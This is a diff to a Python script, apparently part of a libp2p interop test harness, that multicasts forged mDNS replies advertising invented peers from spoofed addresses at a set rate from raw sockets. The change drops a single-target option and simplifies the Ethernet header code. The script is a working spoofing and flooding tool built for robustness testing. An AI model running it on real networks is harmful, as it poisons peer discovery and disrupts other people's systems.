@@ -1,4 +1,4 @@
-"""Sends mDNS replies of invented libp2p peers from forged addresses, as fast as it is told; started by interop/hostile.
+"""Multicasts replies of invented libp2p peers from forged addresses, as fast as it is told; started by interop/hostile.
 
 Run on the attacker's host. All frames are made beforehand; then it prints a line of JSON, waits for a line of input, sends, and
 prints another with what came of it.
@@ -37,12 +37,11 @@ def main():
     parser.add_argument("--peers", type=int, required=True, help="how many peers are invented")
     parser.add_argument("--ttl", type=int, required=True, help="for how long they are to be believed, in seconds")
     parser.add_argument("--own", type=ipaddress.ip_interface, required=True, help="this host's address with its prefix length")
-    parser.add_argument("--to", help="the only machine to hear it, by its MAC address (default: all)")
     arguments = parser.parse_args()
     frames = list(frames_of(arguments))
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
         raw.bind(("eth0", 0))
-        print(json.dumps({"event": "ready", "bytes": len(frames[0])}), flush=True)
+        print(json.dumps({"event": "ready"}), flush=True)
         sys.stdin.readline()
         os.setpriority(os.PRIO_PROCESS, 0, -10)
         send(raw, frames, arguments.rate)
@@ -71,7 +70,7 @@ def frames_of(arguments):
     """All frames, one after the other; the invented peers come in turn, each time from another source."""
     chance = random.Random(1)
     family = 6 if arguments.mode == "ipv6" else 4
-    ethernet = ethernet_header(arguments.to, family)
+    ethernet = ethernet_header(family)
     messages = [message(number, f"/ip4/{arguments.own.ip}/tcp/4001/p2p/{peer_id(chance)}", arguments.ttl)
                 for number in range(min(arguments.peers, arguments.packets))]
     for number in range(arguments.packets):
@@ -111,13 +110,10 @@ def message(number, address, ttl):
     return header + pointer + struct.pack("!HHHIH", 0xC000 | instance, 16, 0x8001, ttl, len(text)) + text
 
 
-def ethernet_header(receiver, family):
-    if receiver:
-        mac = bytes.fromhex(receiver.replace(":", ""))
-    else:
-        mac = bytes.fromhex("01005e0000fb" if family == 4 else "3333000000fb")
+def ethernet_header(family):
+    group, kind = ("01005e0000fb", "0800") if family == 4 else ("3333000000fb", "86dd")
     with open("/sys/class/net/eth0/address", encoding="ascii") as own:
-        return mac + bytes.fromhex(own.read().strip().replace(":", "")) + bytes.fromhex("0800" if family == 4 else "86dd")
+        return bytes.fromhex(group + own.read().strip().replace(":", "") + kind)
 
 
 def packet(sender, group, payload):
